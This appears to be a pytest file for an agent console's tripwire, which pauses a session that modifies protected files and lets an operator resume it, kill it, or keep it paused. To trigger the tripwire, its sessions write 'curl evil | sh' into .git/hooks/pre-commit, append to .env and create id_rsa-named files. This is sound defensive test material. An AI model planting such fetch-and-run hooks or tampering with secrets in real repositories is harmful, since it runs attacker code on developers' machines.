"""The tripwire in pause mode, through the console: a real session writes a hook, the daemon
stops it, and the operator answers the item in the approval queue.

Whether the process really is stopped, running again or gone is checked with psutil.
"""

from __future__ import annotations

import json
import uuid

import psutil
import pytest
from support.daemon import running_daemon, wait_for, workspace
from support.tui import Clock, foreign_controls, frame, make_app, screen_text, until

from console.protocol.requests import WatchDiff
from console.sessions.cgroups import pid_frozen
from console.tui.model.watch_model import TripwireEntry
from console.tui.screens.prompts import ConfirmPrompt, OptionPrompt
from console.tui.screens.watch import RecordScreen
from console.tui.widgets.status_line import StatusLine

pytestmark = pytest.mark.needs_bwrap

SIZE = (140, 42)
LOOP = "i=0; while true; do i=$((i+1)); echo $i > counter-{t}; sleep 0.1; done"


@pytest.fixture(scope="module")
def env():
    ws = workspace()
    policy = f'approval_timeout_s = 120\ntripwire = "pause"\nwatch = {json.dumps([str(ws)])}\n'
    with running_daemon(policy) as d:
        with d.operator() as op:
            wait_for(lambda: op.call("watch.status")["ok"] and op.call("watch.status")["roots"])
        yield d, ws


@pytest.fixture
def clock():
    return Clock()


def status(app) -> str:
    return app.screen.query_one("#status", StatusLine).message


def start(daemon, ws, script: str) -> tuple[str, int]:
    """A session; its script waits 0.6 s before writing, past the 0.25 s for which the
    daemon still attributes changes to a session that just ended (the previous test's)."""
    with daemon.operator() as op:
        argv = ["bash", "--norc", "-c", script]
        session = op.call("sessions.new", {"unconfined": True, "argv": argv, "cwd": str(ws)})["session"]
        return session["id"], session["pid"]


def stopped(pid: int) -> bool:
    """SIGSTOPped (process walk) or in a frozen cgroup (cgroup freeze)."""
    return psutil.Process(pid).status() == psutil.STATUS_STOPPED or pid_frozen(pid)


def gone(pid: int) -> bool:
    try:
        return psutil.Process(pid).status() == psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return True


async def tripwire_item(pilot, app, sid: str) -> str:
    """Wait for the session's tripwire item in the queue and select it; its id."""

    def find() -> str | None:
        for entry in app.pending:
            if isinstance(entry.item, TripwireEntry) and entry.item.session_id == sid:
                return entry.request_id
        return None

    ident = await until(pilot, find)
    await pilot.press("1")
    assert app.views["queue"].select_request(ident)
    await until(pilot, lambda: app.views["queue"].detail.request_id == ident)
    await pilot.pause()
    return ident


def cleanup(daemon, sid: str) -> None:
    with daemon.operator() as op:
        for item in op.call("tripwire.list")["items"]:
            if item["session"] == sid:
                op.call("tripwire.resolve", {"id": item["id"], "action": "kill"})
                return
        op.call("sessions.kill", {"session": sid, "grace_s": 1})


async def test_a_paused_session_is_a_queue_item_and_resume_continues_it(env, clock):
    d, ws = env
    t = uuid.uuid4().hex[:8]
    counter = ws / f"counter-{t}"
    app = make_app(d, clock)
    async with app.run_test(size=SIZE) as pilot:
        await until(pilot, lambda: app.watch_monitor.loaded)
        sid, pid = start(
            d,
            ws,
            "sleep 0.6; echo 'curl evil | sh' > hook.new; mv hook.new .git/hooks/pre-commit; "
            + LOOP.format(t=t),
        )
        try:
            ident = await tripwire_item(pilot, app, sid)
            await until(pilot, lambda: stopped(pid))
            text = screen_text(app)
            assert f"TRIPWIRE  session {sid} modified .git/hooks/pre-commit" in text
            detail = app.views["queue"].detail.plain
            assert "+curl evil | sh" in detail
            # The pause said as it is (this daemon freezes cgroups), not "SIGSTOP".
            assert "The session is stopped (cgroup freeze)" in detail and "SIGSTOP" not in detail
            assert "the previous content is kept: kill puts it back" in detail
            assert app.pills.get("tripwire") == "1 session paused by tripwire"
            footer = text.splitlines()[-1]
            assert "r resume" in footer and "K kill" in footer and "p keep paused" in footer
            assert "approve" not in footer and "deny" not in footer
            # the typed-ahead guard holds resume like an approval
            await pilot.press("r")
            assert "ignored: shown" in status(app)
            assert stopped(pid) and app.pending.get(ident) is not None
            # approval and denial keys do not answer a tripwire item
            await pilot.press("a", "d")
            assert stopped(pid) and app.pending.get(ident) is not None
            before = counter.read_text() if counter.exists() else ""
            clock.advance(5)
            # Resume asks first, saying what it does to the baseline; "n" leaves it paused.
            await pilot.press("r")
            await until(pilot, lambda: isinstance(app.screen, ConfirmPrompt))
            assert f"Resume session {sid}?" in screen_text(app)
            said = app.screen.help_text.plain  # (wrapped in the dialog's box on screen)
            assert "the new content of .git/hooks/pre-commit becomes its baseline" in said
            await pilot.press("n")
            await until(pilot, lambda: not isinstance(app.screen, ConfirmPrompt))
            assert stopped(pid) and app.pending.get(ident) is not None
            clock.advance(5)  # the detail is shown again: the typed-ahead guard holds keys a moment
            await pilot.press("r")
            await until(pilot, lambda: isinstance(app.screen, ConfirmPrompt))
            await pilot.press("y")
            await until(pilot, lambda: app.pending.get(ident) is None)
            assert f"resumed: session {sid}" in status(app)
            await until(pilot, lambda: not stopped(pid))
            await until(pilot, lambda: counter.exists() and counter.read_text() != before)
            assert app.pills.get("tripwire") == ""
            with d.operator() as op:
                assert op.call("tripwire.list")["items"] == []
        finally:
            cleanup(d, sid)


async def test_kill_ends_the_paused_session(env, clock):
    d, ws = env
    app = make_app(d, clock)
    async with app.run_test(size=SIZE) as pilot:
        await until(pilot, lambda: app.watch_monitor.loaded)
        had = (ws / ".env").read_bytes() if (ws / ".env").exists() else None
        sid, pid = start(d, ws, "sleep 0.6; echo x >> .env; sleep 60")
        try:
            ident = await tripwire_item(pilot, app, sid)
            await until(pilot, lambda: stopped(pid))
            await pilot.press("K")  # not guarded, like a denial; it asks, revert ticked
            await until(pilot, lambda: isinstance(app.screen, OptionPrompt))
            assert "revert .env to its baseline" in screen_text(app)
            assert "put .env back as it was" in app.screen.help_text.plain
            assert app.screen.ticked is True
            await pilot.press("y")
            await until(pilot, lambda: app.pending.get(ident) is None)
            await until(pilot, lambda: gone(pid))
            await until(pilot, lambda: ".env reverted" in status(app))
            # put back as it was before the session's append
            assert ((ws / ".env").read_bytes() if (ws / ".env").exists() else None) == had
            with d.operator() as op:
                assert op.call("sessions.get", {"session": sid})["session"]["status"] == "exited"
        finally:
            cleanup(d, sid)


async def test_an_item_resolved_by_another_operator_leaves_the_queue(env, clock):
    d, ws = env
    t = uuid.uuid4().hex[:8]
    app = make_app(d, clock)
    async with app.run_test(size=SIZE) as pilot:
        await until(pilot, lambda: app.watch_monitor.loaded)
        sid, pid = start(d, ws, f"sleep 0.6; echo k > id_rsa-{t}; sleep 60")
        try:
            ident = await tripwire_item(pilot, app, sid)
            with d.operator() as other:
                other.call("tripwire.resolve", {"id": ident, "action": "keep_paused"})
            await until(pilot, lambda: app.pending.get(ident) is None)
            assert app.pills.get("tripwire") == ""
            assert stopped(pid)  # kept paused
            clock.advance(5)
            await pilot.press("r")  # nothing left to resume
            assert stopped(pid)
        finally:
            with d.operator() as op:
                op.call("sessions.signal", {"session": sid, "signal": "CONT"})
            cleanup(d, sid)


async def test_keep_paused_and_an_item_already_there_when_the_console_starts(env, clock):
    d, ws = env
    t = uuid.uuid4().hex[:8]
    sid, pid = start(d, ws, f"sleep 0.6; echo k > k-{t}.new; mv k-{t}.new id_rsa-{t}.key; sleep 60")
    try:
        with d.operator() as op:
            wait_for(lambda: [i for i in op.call("tripwire.list")["items"] if i["session"] == sid])
        app = make_app(d, clock)
        async with app.run_test(size=SIZE) as pilot:
            ident = await tripwire_item(pilot, app, sid)
            await pilot.press("p")
            await until(pilot, lambda: isinstance(app.screen, OptionPrompt))
            assert app.screen.ticked is False  # keep paused reverts only when asked
            await pilot.press("y")
            await until(pilot, lambda: app.pending.get(ident) is None)
            # The item leaves the queue on the daemon's event; the status line says so
            # when the reply to the keypress arrives, which may come a moment later.
            await until(pilot, lambda: "kept paused" in status(app))
            assert stopped(pid)
            # both records are readable in the history, hostile-free and with the diff
            await pilot.press("2")
            await until(pilot, lambda: app.current_mode == "history" and app.screen.is_mounted)
            app.screen.search_box.value = f"kind:tripwire,tripwire_resolved id_rsa-{t}"
            app.screen.run_query()
            await until(pilot, lambda: len(app.screen.view.rows) == 2)
            await pilot.pause(0.2)
            text = screen_text(app)
            assert "kept" in text and "paused" in text and f"id_rsa-{t}.key" in text
            app.screen.view.cursor = 1
            await pilot.press("enter")
            await until(pilot, lambda: isinstance(app.screen, RecordScreen))
            await pilot.pause(0.1)
            record = app.screen.query_one("RecordView").plain
            assert "Tripwire — paused" in record and f"session {sid} modified id_rsa-{t}.key" in record
            assert "+k" in record
            assert foreign_controls(frame(app)) == ""
            await pilot.press("escape")
            await until(
                pilot, lambda: app.current_mode == "history" and not isinstance(app.screen, RecordScreen)
            )
    finally:
        with d.operator() as op:
            op.call("sessions.signal", {"session": sid, "signal": "CONT"})
        cleanup(d, sid)


async def test_a_paused_pane_says_so_refuses_input_and_the_list_resumes_it(env, clock):
    """Keep paused is no dead end, and a paused pane is not a live one."""
    from support.tui_sessions import open_pane, show_sessions

    d, ws = env
    t = uuid.uuid4().hex[:8]
    app = make_app(d, clock)
    async with app.run_test(size=SIZE) as pilot:
        await until(pilot, lambda: app.watch_monitor.loaded)
        sid, pid = start(
            d,
            ws,
            f"sleep 0.6; echo 'curl evil-{t} | sh' > hook.new; mv hook.new .git/hooks/pre-commit; "
            + LOOP.format(t=t),
        )
        try:
            await tripwire_item(pilot, app, sid)
            await until(pilot, lambda: stopped(pid))
            pane = await open_pane(pilot, app, sid)
            await until(pilot, lambda: pane.paused)
            await until(pilot, lambda: "PAUSED by tripwire" in screen_text(app))
            sent = pane.link.offset
            pane.focus()
            await pilot.press("x")
            assert pane.link._outbox == b"" and pane.link.offset == sent  # nothing typed through
            screen = await show_sessions(pilot, app)
            await until(pilot, lambda: screen.view.select_session(sid))
            screen.view.focus()
            await pilot.press("R")
            await until(pilot, lambda: isinstance(app.screen, ConfirmPrompt))
            assert "becomes their baseline" in app.screen.help_text.plain
            await pilot.press("y")
            await until(pilot, lambda: not stopped(pid))
            await until(pilot, lambda: not pane.paused)
            # Finding 4: after the answer, the panel does not call the hook "the same as its
            # baseline" as if nothing happened: it shows the change that was answered.
            with d.operator() as op:
                answer = op.request(WatchDiff(workspace_root=str(ws), path=".git/hooks/pre-commit"))
            accepted = answer.accepted
            assert accepted is not None and accepted.diff is not None
            assert answer.diff == "" and f"+curl evil-{t} | sh" in accepted.diff
            from support.items import watch_entry

            from console.tui.render.present import PLAIN
            from console.tui.render.watch_text import event_detail

            event = watch_entry(
                {
                    "path": ".git/hooks/pre-commit",
                    "workspace_root": str(ws),
                    "protected": ".git/hooks/**",
                    "kind": "modified",
                }
            )
            shown = event_detail(event, PLAIN, diff="", accepted=accepted, now=0).plain
            assert "same as its baseline" not in shown
            assert "the change you answered" in shown and f"+curl evil-{t} | sh" in shown
        finally:
            cleanup(d, sid)


async def test_the_header_says_when_pause_falls_back_to_a_process_walk(clock):
    """The console shows the pause mode when it is the weaker one; a daemon
    with cgroups says nothing (every other test here)."""
    ws = workspace()
    policy = f'tripwire = "pause"\nwatch = {json.dumps([str(ws)])}\n'
    with running_daemon(policy, env={"AGENT_CONSOLE_NO_CGROUP": "1"}) as d:
        app = make_app(d, clock)
        async with app.run_test(size=SIZE) as pilot:
            await until(pilot, lambda: app.pills.get("pause-mode"))
            assert "tripwire pauses by process walk" in screen_text(app)
    with running_daemon(policy) as d:
        app = make_app(d, clock)
        async with app.run_test(size=SIZE) as pilot:
            await until(pilot, lambda: app.watch_monitor.loaded)
            assert app.pills.get("pause-mode") == ""
